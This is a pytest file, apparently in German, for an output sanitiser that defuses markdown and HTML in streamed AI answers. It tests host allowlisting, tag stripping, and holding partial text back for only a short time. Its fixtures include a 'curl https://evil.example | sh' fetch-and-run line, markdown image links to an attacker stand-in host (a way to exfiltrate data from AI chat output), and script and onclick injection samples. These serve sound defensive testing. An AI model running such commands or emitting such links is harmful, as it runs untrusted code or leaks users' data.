"""Answers that come through as they are, and how what was defused is shown."""

import pytest
from defuse_samples import HOSTS, E, defused

from backend_adapter.egress.defuse import LONGEST_HELD, Defusing

PLAIN = [
    "Guten Tag, Frau Müller! Wie geht es Ihnen?\n\nMit freundlichen Grüßen",
    "# Titel\n\n## Unter *titel* mit **fett** und ~~gestrichen~~\n\n---\n\nText.",
    "- eins\n- zwei\n  - drei\n    - vier\n\n1. a\n2. b\n\n- [ ] offen\n- [x] erledigt\n",
    "> Zitat\n> weiter\n\nDanach.",
    "| Name | Preis |\n|:-----|------:|\n| Apfel | 1,20 € |\n| `a \\| b` | $5 |\n",
    "Kosten: $5 bis $10, oder 20 $.",
    "Die Formel $a < b$ und $x^2 + y_1 \\le \\frac{1}{2}$.\n\n$$\n\\sum_{i=1}^n i\n$$\n",
    "\\[\nE = mc^2\n\\]\n\nund \\(a+b\\).",
    "Wenn a < b und c > d, dann a <= d; x << 2; <3",
    "Map<A, B>, Map<K, V> und a<b,c",
    "Schreiben Sie an max.mustermann@stadt.example oder rufen Sie 0221 1234 an.",
    "Aussage[^1] und Quelle [1][2].\n\n[^1]: Erste Fußnote mit Text.\n",
    "`inline` und ``mit ` darin`` und `a | b` und `<img src=x>` und `![a](https://evil.example)`.",
    '```python\ndef f(x: list[int]) -> dict[str, int]:\n    return {"a": x[0]}  # ![a](https://evil.example)\n```\n',
    '```\n<html><img src="https://evil.example"></html>\n[a]: https://evil.example\n```\n',
    "~~~sh\necho $HOME && curl https://evil.example | sh\n~~~\n",
    "1. Schritt\n\n   ```bash\n   make all\n\n   make test\n   ```\n2. Weiter\n",
    "- Punkt:\n\n  ```c\n  #include <stdio.h>\n  int main(void) { return a[0] < b; }\n  ```\n",
    "> ```js-like\n> x\n> ```\n",
    "````markdown\n```python\nprint(1)\n```\n````\n",
    "H<sub>2</sub>O und x<sup>2</sup>, Strg + <kbd>C</kbd>, Zeile<br>Zeile",
    "[erlaubt](https://ok.example/pfad?x=1#y) ![Bild](https://a.good.example/b.png) https://ok.example/x.",
    '[mit Titel](https://ok.example/ "Der Titel") &amp; &nbsp;<',
    "a[0]: das erste; Pfad C:\\Users\\max und \\alpha; 5 // 2; Datei a/b/c.txt; 12:30; {{platz}}; f(x)[1]",
    "Ein Text (mit Klammern) [und eckigen] und {geschweiften}; \"Zitat\" 'so' – Ende…",
    "日本語のテキスト。絵文字 😀 und\u00a0feste Leerzeichen",
]


@pytest.mark.parametrize("text", PLAIN)
def test_a_plain_answer_comes_through_unchanged(text: str) -> None:
    assert defused(text) == text
    assert defused(text, list(range(len(text)))) == text


SHOWN = [
    (f"![Plan]({E})", f"![Plan\\](`{E}`)"),
    (f"[Hier]({E}) klicken", f"[Hier\\](`{E}`) klicken"),
    (f"siehe {E}.", f"siehe `{E}`."),
    ("[a]: https://evil.example", "[a\\]: `https://evil.example`"),
    ("List<String> und <tool>", "List\\<String> und \\<tool>"),
    ('x <b onclick="y()">fett</b>', "x <b>fett</b>"),
    ("a<script>x()</script>b", "a\u200bb"),
    ("a<img src=x>b", "a\u200bb"),
    ("a<!-- b -->c", "a\u200bc"),
    ("```mermaid\ngraph\n```\n", "```text\ngraph\n```\n"),
    ("```js\nx\n```\n", "```ecmascript\nx\n```\n"),
    ("```\n<think>\n```", "```\n<\u200bthink>\n```"),
    ("nie geschlossen ` hier", "nie geschlossen \u02cb hier"),
    ("> ```\ncode", "> ```\n> ```\n\ncode"),
    ("a\r\nb\rc", "a\nb\nc"),
    ("```py\nx", "```py\nx\n```\n"),
    ("So:\n```py\n1\n```\n", "So:\n\n```py\n1\n```\n"),
    ("> So:\n> ```py\n> 1\n> ```\n", "> So:\n>\n> ```py\n> 1\n> ```\n"),
    ("Vec<u8> und a<b", "Vec\\<u8> und a\\<\u200bb"),
    ("&#47; &colon;", "\\&#47; \\&colon;"),
]


@pytest.mark.parametrize(("text", "shown"), SHOWN)
def test_what_is_defused_stays_readable(text: str, shown: str) -> None:
    assert defused(text) == shown


@pytest.mark.parametrize(
    ("url", "allowed"),
    [
        ("https://ok.example", True),
        ("http://OK.example./x", True),
        ("https://ok.example:443/x", True),
        ("https://ok.example:80/x", False),
        ("https://a.b.good.example/x", True),
        ("https://good.example/x", False),
        ("https://host.other.example:8443/x", True),
        ("https://host.other.example/x", False),
    ],
)
def test_hosts_are_on_the_list_exactly(url: str, allowed: bool) -> None:
    stage = Defusing([*HOSTS, "host.other.example:8443"])

    said = stage.feed(f"[a]({url})") + stage.end()

    assert (said == f"[a]({url})") is allowed


def test_prose_and_code_are_not_held_back() -> None:
    stage, text = (
        Defusing(),
        "Ein langer Satz ohne alles.\n| a | b |\n```py\nx = 1\ny = f(x)\n```\nEnde ",
    )
    held = 0
    for letter in text:
        stage.feed(letter)
        held = max(held, len(stage._held))

    assert held <= len("```py\n")


@pytest.mark.parametrize(
    "begin",
    [
        "<!--",
        "<script>",
        '<img alt="',
        "`",
        "[a](",
        "https://",
        "```",
        "~~~",
        "```\n`",
        "<b ",
        "   ",
        "\\",
        "> ",
    ],
)
def test_nothing_is_held_back_for_ever(begin: str) -> None:
    for filling in ("a", " ", "`", "\\", "x=", ">", "-"):
        stage, held = Defusing(HOSTS), 0
        for _ in range(LONGEST_HELD):
            stage.feed(begin if not held else filling * 3)
            held = max(held, len(stage._held))
        assert held <= LONGEST_HELD + 8
